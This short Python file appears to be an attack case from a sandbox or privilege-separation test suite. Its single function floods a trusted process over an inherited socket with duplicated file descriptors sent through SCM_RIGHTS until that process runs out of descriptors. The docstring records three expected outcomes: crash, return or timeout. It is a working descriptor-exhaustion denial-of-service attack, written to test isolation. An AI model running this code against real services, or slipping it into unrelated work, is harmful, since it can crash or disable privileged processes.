"""Sends open descriptors to the trusted side, until that can open no more.

Ends: CRASHED or RETURNED or TIMEOUT
"""

import array
import os
import socket


def attack(facts):
    channel = socket.socket(fileno=os.dup(3))
    copies = array.array("i", [os.dup(0) for _ in range(20)])
    for _ in range(1000):
        channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, copies)])
